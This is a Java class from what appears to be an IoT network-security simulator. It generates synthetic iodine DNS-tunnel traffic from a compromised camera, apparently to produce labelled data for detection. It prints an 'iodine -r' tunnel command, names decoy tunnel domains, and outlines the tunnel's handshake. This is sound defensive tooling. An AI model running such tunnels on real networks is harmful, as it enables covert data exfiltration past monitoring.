package io.iotwatch.sim.packets.attack;

import io.iotwatch.sim.packets.lan.Device;
import io.iotwatch.sim.packets.lan.DeviceKind;
import io.iotwatch.sim.packets.net.Host;
import io.iotwatch.sim.packets.net.Micros;
import io.iotwatch.sim.packets.net.Packets;
import io.iotwatch.sim.packets.net.Scheduler;
import io.iotwatch.sim.packets.proto.Dns;
import io.iotwatch.sim.packets.wire.Bytes;
import io.iotwatch.sim.packets.wire.Noise;
import io.iotwatch.sim.truth.AttackKind;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/**
 * An iodine client on a compromised camera tunnelling through the site's resolver for a minute: the handshake
 * (version, login, address, case check, codec checks, options, fragment-size probes), then data going up as
 * base32 in labels of up to 63 characters under the tunnel domain and coming down in NULL records, and pings
 * when idle. Every query is of type NULL from one source port, and each gets the resolver's answer.
 */
final class DnsTunnel extends Attack {

    static final long SLOT = Micros.seconds(66);
    private static final long LENGTH = Micros.seconds(60);
    private static final String BASE32 = "abcdefghijklmnopqrstuvwxyz012345";
    private static final String[] DOMAINS = {"cdn-telemetry.net", "sys-update-cache.com", "cloud-resolve.org", "metrics-relay.net"};
    private static final char[] HANDSHAKE = {'v', 'l', 'i', 'z', 'y', 'y', 'y', 's', 'o', 'r', 'r', 'r', 'r', 'n'};

    private final Device device;
    private final String domain;
    private final String top;
    private final SplittableRandom rnd;
    private int queries;

    DnsTunnel(AttackContext ctx) {
        super(AttackKind.DNS_TUNNEL);
        this.device = ctx.compromise(DeviceKind.CAMERA);
        this.rnd = ctx.random();
        this.domain = DOMAINS[rnd.nextInt(DOMAINS.length)];
        this.top = "t1." + domain;
    }

    @Override
    public void start(long start, Scheduler scheduler) {
        Host client = device.host();
        Host resolver = device.gateway();
        int port = device.ephemeralPort();
        scheduler.add(new ToolSource(origin, rnd, start) {
            private int step;

            @Override
            protected void plan(long now, Scheduler s) {
                String name;
                int answer;
                if (step < HANDSHAKE.length) {
                    char command = HANDSHAKE[step];
                    name = command + base32(command == 'r' ? 150 - step * 5 : 6 + rnd.nextInt(20));
                    answer = command == 'r' ? 1_200 - (step - 9) * 200 : command == 'y' ? 220 : 6 + rnd.nextInt(20);
                } else if (rnd.nextInt(6) == 0) {
                    name = "p" + base32(8);
                    answer = rnd.nextInt(3) == 0 ? 200 + rnd.nextInt(700) : 0;
                } else {
                    name = Integer.toHexString(rnd.nextInt(16)) + base32(120 + rnd.nextInt(80));
                    answer = rnd.nextInt(2) == 0 ? 100 + rnd.nextInt(900) : 0;
                }
                step++;
                String query = labels(name) + "." + top;
                int id = rnd.nextInt(1 << 16);
                Bytes q = new Bytes(256);
                Dns.query(q, id, query, Dns.TYPE_NULL);
                at(now, Packets.udp(client, port, resolver, 53, device.nextIpId(), q.toArray()));
                Bytes r = new Bytes(1_400);
                Dns.response(r, id, query, Dns.TYPE_NULL, Dns.NOERROR).nullRecord(0, Noise.BLOCK, rnd.nextInt(60_000),
                        Math.max(1, answer)).finish();
                long answered = now + client.rtt() + Micros.millis(25 + rnd.nextInt(50));
                at(answered, Packets.udp(resolver, 53, client, port, rnd.nextInt(1 << 16), r.toArray()));
                queries++;
                long next = answered + Micros.millis(step < HANDSHAKE.length ? 20 : 50 + rnd.nextInt(400));
                if (next < start + LENGTH) {
                    wakeAt(next);
                }
            }
        });
    }

    /** Random base32 text of {@code n} characters, as iodine encodes data. */
    private String base32(int n) {
        StringBuilder s = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            s.append(BASE32.charAt(rnd.nextInt(BASE32.length())));
        }
        return s.toString();
    }

    /** The text cut into labels of at most 63 characters. */
    private static String labels(String text) {
        StringBuilder s = new StringBuilder(text.length() + 4);
        for (int i = 0; i < text.length(); i += 63) {
            if (i > 0) {
                s.append('.');
            }
            s.append(text, i, Math.min(text.length(), i + 63));
        }
        return s.toString();
    }

    @Override
    protected List<String> attackers() {
        return List.of(AttackContext.text(device.host()));
    }

    @Override
    protected String victim() {
        return domain;
    }

    @Override
    protected String command() {
        return String.format(Locale.ROOT, "iodine -r %s %s: NULL queries for %d s (%d in this run) through the resolver %s",
                AttackContext.text(device.gateway()), top, LENGTH / Micros.SECOND, queries, AttackContext.text(device.gateway()));
    }
}
